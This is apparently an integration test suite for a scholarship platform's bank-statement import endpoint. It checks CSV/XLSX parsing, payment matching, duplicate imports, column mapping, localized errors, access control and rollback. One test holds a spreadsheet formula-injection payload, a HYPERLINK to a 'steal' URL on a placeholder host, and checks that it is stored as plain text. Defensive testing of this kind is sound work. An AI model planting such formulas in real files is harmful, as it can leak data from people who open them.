import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { STATEMENT_MAX_BYTES } from '@bourses/common/limits';
import { paymentReference } from '@bourses/common/payment-reference';
import {
  bankStatementAnswerSchema,
  bankStatementSummaryAnswerSchema,
  pageAnswerSchema,
  statementImportAnswerSchema,
} from '#api/contract.ts';
import type { ColumnMapping } from '#api/payments/statements/column-mapping.ts';
import { apply } from '../factories/applications.ts';
import { GENEROUS_MAIL_LIMITS } from '../factories/auth.ts';
import { createScholarship } from '../factories/scholarships.ts';
import { createAgent, createUser, type TestUser } from '../factories/users.ts';
import { startTestApi, type TestApi } from '../test-api.ts';
import { csvStatement, garbageBytes, xlsxStatement } from './statements/statement-files.ts';

let api: TestApi;
let agent: TestUser;
beforeAll(async () => {
  api = await startTestApi(GENEROUS_MAIL_LIMITS);
  agent = await createAgent(api);
});
afterAll(() => api.close());

interface OwedPayment {
  id: number;
  reference: string;
  student: TestUser;
}

/** A student who applied to a scholarship with this fee: their payment, waiting to be verified. */
async function owedPayment(feeCentimes: number, student?: TestUser): Promise<OwedPayment> {
  const owner = student ?? (await createUser(api, { language: 'ar' }));
  const { id: scholarshipId } = await createScholarship(api, { applicationFeeCentimes: feeCentimes });
  const applicationId: number = (await apply(api, owner, scholarshipId).expect(201)).body.data.id;
  const { id, reference } = await api.context.db
    .selectFrom('payments')
    .select(['id', 'reference'])
    .where('applicationId', '=', applicationId)
    .executeTakeFirstOrThrow();
  return { id, reference, student: owner };
}

interface ImportOptions {
  bank?: string;
  fileName?: string;
  mapping?: ColumnMapping;
  as?: TestUser;
  language?: string;
}

function postStatement(file: Buffer, options: ImportOptions = {}) {
  let request = api.http
    .post('/api/payments/statements')
    .set((options.as ?? agent).auth)
    .set('Accept-Language', options.language ?? 'fr')
    .field('bank', options.bank ?? 'Banque Populaire');
  if (options.mapping) request = request.field('mapping', JSON.stringify(options.mapping));
  return request.attach('file', file, options.fileName ?? 'releve.csv');
}

const readStatementDetail = (id: string, language = 'fr') =>
  api.http.get(`/api/payments/statements/${id}`).set(agent.auth).set('Accept-Language', language).expect(200);

const paymentRow = (id: number) =>
  api.context.db.selectFrom('payments').selectAll().where('id', '=', id).executeTakeFirstOrThrow();

const countOf = async (table: 'bankStatements' | 'bankStatementLines' | 'auditLog') =>
  Number(
    (
      await api.context.db
        .selectFrom(table)
        .select((eb) => eb.fn.countAll<number>().as('count'))
        .executeTakeFirstOrThrow()
    ).count,
  );

const frenchCsv = (rows: string[][]) =>
  csvStatement(
    [
      ['Relevé de compte', 'Banque Populaire'],
      [],
      ['Date opération', 'Libellé', 'Débit', 'Crédit', 'Solde'],
      ...rows,
    ],
    { separator: ';', encoding: 'win1252' },
  );

const strictErrors = (
  schema: { safeParse(value: unknown): { error?: { issues: unknown[] } } },
  value: unknown,
) => schema.safeParse(value).error?.issues ?? [];

describe('bank statement import (docs/payments.md, "Bank statement import")', () => {
  it('reads a French Windows-1252 CSV, verifies the payment whose reference and amount match, mails its student and audits it', async () => {
    const paid = await owedPayment(125_000);
    const file = frenchCsv([
      ['02/01/2024', `VIR RECU M CHRAIBI REF:${paid.reference} BOURSE`, '', '1 250,00', '11 250,00'],
      ['03/01/2024', 'FRAIS TENUE DE COMPTE', '25,00', '', '11 225,00'],
      ['04/01/2024', 'VERSEMENT SANS REFERENCE', '', '300,00', '11 525,00'],
    ]);

    const res = await postStatement(file).expect(201);

    expect(strictErrors(statementImportAnswerSchema, res.body.data)).toEqual([]);
    expect(res.body.data).toEqual({
      status: 'IMPORTED',
      statement: {
        id: expect.any(String),
        bank: 'Banque Populaire',
        fileName: 'releve.csv',
        importedAt: expect.any(String),
        importedById: agent.user.id,
        columns: { date: 'Date opération', label: 'Libellé', amount: 'Crédit', debit: 'Débit' },
        lineCount: 2,
        matchedCount: 1,
        alreadyVerifiedCount: 0,
        mismatchCount: 0,
        unmatchedCount: 1,
        alreadyImportedCount: 0,
        problemCount: 0,
      },
    });
    const statementId: string = res.body.data.statement.id;
    const payment = await paymentRow(paid.id);
    expect(payment).toMatchObject({
      status: 'VERIFIED',
      amountReceivedCentimes: 125_000,
      paidOn: '2024-01-02',
      verifiedBy: agent.user.id,
      verifiedAt: expect.any(Date),
    });
    const line = await api.context.db
      .selectFrom('bankStatementLines')
      .selectAll()
      .where('id', '=', payment.statementLineId ?? 0)
      .executeTakeFirstOrThrow();
    expect(line).toMatchObject({
      statementId: Number(statementId),
      lineNumber: 4,
      outcome: 'MATCHED',
      paymentId: paid.id,
    });

    const mails = (await api.outbox()).filter((mail) => mail.to === paid.student.user.email);
    expect(mails.map((mail) => mail.subject)).toEqual([`تم تأكيد الدفعة ${paid.reference}`]);
    // The receipt the verification issues is downloaded from "My documents", which the mail links to.
    const documentsPage = `${api.context.config.publicWebUrl}/documents`;
    expect(mails[0]?.text).toContain(`سيكون وصل الأداء الرسمي متاحًا بعد لحظات في صفحة «وثائقي»: ${documentsPage}`);
    expect(mails[0]?.html).toContain(`<a href="${documentsPage}">`);
    expect(mails[0]?.links).toContain(documentsPage);

    const audit = await api.context.db
      .selectFrom('auditLog')
      .select(['action', 'targetType', 'targetId', 'actorId', 'changes'])
      .where((eb) =>
        eb.or([
          eb.and([eb('targetType', '=', 'payment'), eb('targetId', '=', String(paid.id))]),
          eb.and([eb('targetType', '=', 'bank-statement'), eb('targetId', '=', statementId)]),
        ]),
      )
      .orderBy('id')
      .execute();
    expect(audit).toEqual([
      {
        action: 'payment.verify',
        targetType: 'payment',
        targetId: String(paid.id),
        actorId: agent.user.id,
        changes: {
          status: ['RECEIPT_SUBMITTED', 'VERIFIED'],
          amountReceived: 125_000,
          paidOn: '2024-01-02',
          statement: Number(statementId),
          line: 4,
        },
      },
      {
        action: 'statement.import',
        targetType: 'bank-statement',
        targetId: statementId,
        actorId: agent.user.id,
        changes: expect.objectContaining({
          bank: 'Banque Populaire',
          fileName: 'releve.csv',
          matchedCount: 1,
        }),
      },
    ]);
  });

  it('reads an English comma-separated CSV and an XLSX', async () => {
    const [english, workbook] = [await owedPayment(200_050), await owedPayment(75_000)];
    const csv = csvStatement(
      [
        ['Date', 'Description', 'Amount', 'Reference', 'Balance'],
        ['2024-01-15', 'TRANSFER FROM K. EL IDRISSI', '2,000.50 MAD', english.reference, '12,950.50'],
        ['2024-01-16', 'CARD PAYMENT', '-300.00', '', '12,650.50'],
      ],
      { separator: ',', encoding: 'utf8-bom', lineEnd: '\n' },
    );
    const xlsx = await xlsxStatement([
      ['Date', 'Libellé', 'Montant'],
      [new Date(Date.UTC(2024, 0, 20)), `VERSEMENT CASHPLUS ${workbook.reference}`, 750],
    ]);

    const fromCsv = await postStatement(csv, { bank: 'Attijariwafa', fileName: 'statement.csv' }).expect(201);
    const fromXlsx = await postStatement(xlsx, { bank: 'CIH', fileName: 'releve.xlsx' }).expect(201);

    expect(fromCsv.body.data.statement).toMatchObject({
      columns: { date: 'Date', label: 'Description', amount: 'Amount', reference: 'Reference' },
      lineCount: 1,
      matchedCount: 1,
    });
    expect(fromXlsx.body.data.statement).toMatchObject({ lineCount: 1, matchedCount: 1 });
    expect(await paymentRow(english.id)).toMatchObject({
      status: 'VERIFIED',
      paidOn: '2024-01-15',
      amountReceivedCentimes: 200_050,
    });
    expect(await paymentRow(workbook.id)).toMatchObject({
      status: 'VERIFIED',
      paidOn: '2024-01-20',
      amountReceivedCentimes: 75_000,
    });
  });

  it('lists a mismatch, the unmatched, a payment already verified and a second line paying the same payment', async () => {
    const [mismatched, verifiedBefore, paidTwice, secondReference] = [
      await owedPayment(100_000),
      await owedPayment(50_000),
      await owedPayment(60_000),
      await owedPayment(40_000),
    ];
    await api.context.db
      .updateTable('payments')
      .set({ status: 'VERIFIED', amountReceivedCentimes: 50_000 })
      .where('id', '=', verifiedBefore.id)
      .execute();
    const unknown = paymentReference(987_654);
    const file = frenchCsv([
      ['05/02/2024', `VIR ${mismatched.reference}`, '', '999,00', ''],
      ['05/02/2024', `VIR ${verifiedBefore.reference}`, '', '500,00', ''],
      ['06/02/2024', `VIR ${paidTwice.reference}`, '', '600,00', ''],
      ['07/02/2024', `VIR ${paidTwice.reference} BIS`, '', '600,00', ''],
      ['08/02/2024', `VIR ${unknown} ET ${secondReference.reference}`, '', '400,00', ''],
      ['09/02/2024', `VIR ${unknown}`, '', '400,00', ''],
    ]);

    const res = await postStatement(file).expect(201);

    expect(res.body.data.statement).toMatchObject({
      lineCount: 6,
      matchedCount: 2,
      alreadyVerifiedCount: 2,
      mismatchCount: 1,
      unmatchedCount: 1,
    });
    const detail = (await readStatementDetail(res.body.data.statement.id)).body.data;
    expect(strictErrors(bankStatementAnswerSchema.strict(), detail)).toEqual([]);
    const summary = (lines: { line: number; outcome: string; paymentReference: string | null }[]) =>
      lines.map(({ line, outcome, paymentReference: reference }) => ({ line, outcome, reference }));
    expect(summary(detail.matched)).toEqual([
      { line: 6, outcome: 'MATCHED', reference: paidTwice.reference },
      { line: 8, outcome: 'MATCHED', reference: secondReference.reference },
    ]);
    expect(summary(detail.alreadyVerified)).toEqual([
      { line: 5, outcome: 'ALREADY_VERIFIED', reference: verifiedBefore.reference },
      { line: 7, outcome: 'ALREADY_VERIFIED', reference: paidTwice.reference },
    ]);
    expect(detail.mismatches).toEqual([
      {
        line: 4,
        date: '2024-02-05',
        label: `VIR ${mismatched.reference}`,
        amount: { centimes: 99_900, currency: 'MAD' },
        references: [mismatched.reference],
        outcome: 'MISMATCH',
        paymentId: String(mismatched.id),
        paymentReference: mismatched.reference,
      },
    ]);
    expect(summary(detail.unmatched)).toEqual([{ line: 9, outcome: 'UNMATCHED', reference: null }]);
    expect(await paymentRow(mismatched.id)).toMatchObject({
      status: 'RECEIPT_SUBMITTED',
      amountReceivedCentimes: null,
    });
    expect(await paymentRow(paidTwice.id)).toMatchObject({ status: 'VERIFIED', paidOn: '2024-02-06' });
  });

  it('changes nothing when the same file is imported again, and applies only the new lines of an overlapping statement', async () => {
    const [first, second, third] = [
      await owedPayment(10_000),
      await owedPayment(20_000),
      await owedPayment(30_000),
    ];
    const january = frenchCsv([
      ['10/03/2024', `VIR ${first.reference}`, '', '100,00', ''],
      ['11/03/2024', `VIR ${second.reference}`, '', '999,00', ''],
    ]);
    await postStatement(january).expect(201);
    const verifiedAt = (await paymentRow(first.id)).verifiedAt;
    const auditBefore = await countOf('auditLog');
    const mailsBefore = (await api.outbox()).length;

    const again = await postStatement(january).expect(201);

    expect(again.body.data.statement).toMatchObject({
      lineCount: 2,
      alreadyImportedCount: 2,
      matchedCount: 0,
      mismatchCount: 0,
      unmatchedCount: 0,
    });
    expect((await paymentRow(first.id)).verifiedAt).toEqual(verifiedAt);
    expect(await countOf('auditLog')).toBe(auditBefore + 1);
    expect((await api.outbox()).length).toBe(mailsBefore);

    // The bank's next export starts a day earlier than the last one ended, in its other format.
    const overlapping = csvStatement(
      [
        ['Date', 'Libellé', 'Montant'],
        ['2024-03-11', `vir ${second.reference.toLowerCase()}`, '999.00'],
        ['2024-03-12', `VIR ${third.reference}`, '300.00'],
      ],
      { separator: ',', encoding: 'utf8' },
    );
    const next = await postStatement(overlapping, { fileName: 'releve-mars.csv' }).expect(201);

    expect(next.body.data.statement).toMatchObject({
      lineCount: 2,
      alreadyImportedCount: 1,
      matchedCount: 1,
      mismatchCount: 0,
    });
    expect(await paymentRow(third.id)).toMatchObject({ status: 'VERIFIED', paidOn: '2024-03-12' });
    expect(await paymentRow(second.id)).toMatchObject({ status: 'RECEIPT_SUBMITTED' });
  });

  it('asks for the columns it does not know, stores nothing, then imports with the mapping and remembers it for the bank', async () => {
    const [one, two] = [await owedPayment(125_000), await owedPayment(30_000)];
    const statementsBefore = await countOf('bankStatements');
    const headers = ['Jour', 'Opération effectuée', 'Somme reçue (MAD)', 'N° pièce'];
    const unknownHeaders = (rows: string[][]) =>
      csvStatement([headers, ...rows], { separator: ';', encoding: 'win1252' });
    const march = unknownHeaders([['02/04/2024', `VIR ${one.reference}`, '1 250,00', 'P-0001']]);

    const asked = await postStatement(march, { bank: 'Al Barid Bank' }).expect(200);

    expect(asked.body).toEqual({ data: { status: 'NEEDS_MAPPING', headers } });
    expect(await countOf('bankStatements')).toBe(statementsBefore);

    const mapping = {
      date: 'Jour',
      label: 'Opération effectuée',
      amount: 'Somme reçue (MAD)',
      reference: 'N° pièce',
    };
    const mapped = await postStatement(march, { bank: 'Al Barid Bank', mapping }).expect(201);
    expect(mapped.body.data.statement).toMatchObject({ columns: mapping, matchedCount: 1 });

    const april = unknownHeaders([['03/04/2024', 'VERSEMENT', '300,00', two.reference]]);
    const remembered = await postStatement(april, { bank: '  al barid BANK ' }).expect(201);

    expect(remembered.body.data.statement).toMatchObject({
      bank: 'al barid BANK',
      columns: mapping,
      matchedCount: 1,
    });
    expect(await paymentRow(two.id)).toMatchObject({ status: 'VERIFIED' });
    await postStatement(april, { bank: 'Another bank' }).expect(200);
    // The bank changed its export: the remembered mapping gives way to headers it recognises.
    const recognised = await postStatement(
      frenchCsv([['04/04/2024', 'VIR SANS REFERENCE', '', '10,00', '']]),
      {
        bank: 'Al Barid Bank',
      },
    ).expect(201);
    expect(recognised.body.data.statement.columns).toMatchObject({
      date: 'Date opération',
      amount: 'Crédit',
    });
  });

  it('refuses an unreadable, an empty or a too large file with its message in French and Arabic, storing nothing', async () => {
    const before = await countOf('bankStatements');
    const cases = [
      { file: garbageBytes(4096), status: 400, code: 'STATEMENT_UNREADABLE' },
      { file: Buffer.alloc(0), status: 400, code: 'STATEMENT_EMPTY' },
      { file: Buffer.alloc(STATEMENT_MAX_BYTES + 1, 'a'), status: 413, code: 'STATEMENT_TOO_LARGE' },
    ];
    const messages: Record<string, string[]> = {};
    for (const { file, status, code } of cases) {
      for (const language of ['fr', 'ar']) {
        const res = await postStatement(file, { language }).expect(status);
        expect(res.body.code).toBe(code);
        (messages[code] ??= []).push(res.body.message);
      }
    }

    expect(messages).toEqual({
      STATEMENT_UNREADABLE: [
        expect.stringMatching(/^Relevé illisible/),
        expect.stringMatching(/^كشف حساب غير مقروء/),
      ],
      STATEMENT_EMPTY: ['Le relevé ne contient aucune opération.', 'لا يحتوي كشف الحساب على أي عملية.'],
      STATEMENT_TOO_LARGE: [
        'Relevé trop volumineux (Max : 20 Mo).',
        expect.stringMatching(/^كشف الحساب كبير جدًا/),
      ],
    });
    expect(await countOf('bankStatements')).toBe(before);
    const noBank = await api.http
      .post('/api/payments/statements')
      .set(agent.auth)
      .attach('file', Buffer.from('x'), 'r.csv')
      .expect(400);
    expect(noBank.body.code).toBe('STATEMENT_BANK_REQUIRED');
  });

  it('keeps a formula label as text and reports the lines it cannot read, in the caller’s language', async () => {
    const paid = await owedPayment(15_000);
    const formula = `=HYPERLINK("http://x.example/steal?d=","${paid.reference}")`;
    const file = frenchCsv([
      ['02/05/2024', formula, '', '150,00', ''],
      ['03/05/2024', 'VIR SANS MONTANT', '', 'douze', ''],
    ]);

    const res = await postStatement(file).expect(201);

    expect(res.body.data.statement).toMatchObject({ lineCount: 1, matchedCount: 1, problemCount: 1 });
    const french = (await readStatementDetail(res.body.data.statement.id, 'fr')).body.data;
    const arabic = (await readStatementDetail(res.body.data.statement.id, 'ar')).body.data;
    expect(french.matched[0]?.label).toBe(formula);
    expect(french.problems).toEqual([
      { line: 5, code: 'AMOUNT_INVALID', message: 'Ligne 5 : montant illisible « douze ».', value: 'douze' },
    ]);
    expect(arabic.problems).toEqual([
      { line: 5, code: 'AMOUNT_INVALID', message: 'السطر 5: مبلغ غير مقروء «douze».', value: 'douze' },
    ]);
  });

  it('lists the statements latest first', async () => {
    const res = await api.http
      .get('/api/payments/statements')
      .query({ limit: 2 })
      .set(agent.auth)
      .expect(200);

    // The envelope of every list: { data: { data, pagination } }.
    expect(strictErrors(pageAnswerSchema(bankStatementSummaryAnswerSchema.strict()), res.body.data)).toEqual([]);
    expect(res.body.data.data).toHaveLength(2);
    expect(Number(res.body.data.data[0].id)).toBeGreaterThan(Number(res.body.data.data[1].id));
    expect(res.body.data.pagination).toMatchObject({ page: 1, limit: 2, total: await countOf('bankStatements') });
  });

  it('refuses students and visitors before reading their upload', async () => {
    const student = await createUser(api);
    const file = frenchCsv([['02/01/2024', 'VIR', '', '10,00', '']]);

    const refused = await postStatement(file, { as: student }).expect(403);
    await api.http
      .post('/api/payments/statements')
      .field('bank', 'x')
      .attach('file', file, 'r.csv')
      .expect(401);
    await api.http.get('/api/payments/statements').set(student.auth).expect(403);

    expect(refused.body.code).toBe('FORBIDDEN');
  });

  it('applies nothing when the import fails at its last step', async () => {
    const paid = await owedPayment(45_000);
    const file = frenchCsv([['02/06/2024', `VIR ${paid.reference}`, '', '450,00', '']]);
    const before = {
      statements: await countOf('bankStatements'),
      lines: await countOf('bankStatementLines'),
      audit: await countOf('auditLog'),
      mails: (await api.outbox()).length,
    };
    // A real fault of the database at the import's last statement: its audit entry is refused.
    await sql`alter table audit_log add constraint no_statement_import check (action <> 'statement.import') not valid`.execute(
      api.context.db,
    );
    try {
      await postStatement(file).expect(500);
    } finally {
      await sql`alter table audit_log drop constraint no_statement_import`.execute(api.context.db);
    }

    expect({
      statements: await countOf('bankStatements'),
      lines: await countOf('bankStatementLines'),
      audit: await countOf('auditLog'),
      mails: (await api.outbox()).length,
    }).toEqual(before);
    expect(await paymentRow(paid.id)).toMatchObject({
      status: 'RECEIPT_SUBMITTED',
      statementLineId: null,
      verifiedAt: null,
    });

    // The same file imports once the fault is gone: its lines were never stored.
    const retried = await postStatement(file).expect(201);
    expect(retried.body.data.statement).toMatchObject({ matchedCount: 1, alreadyImportedCount: 0 });
  });
});
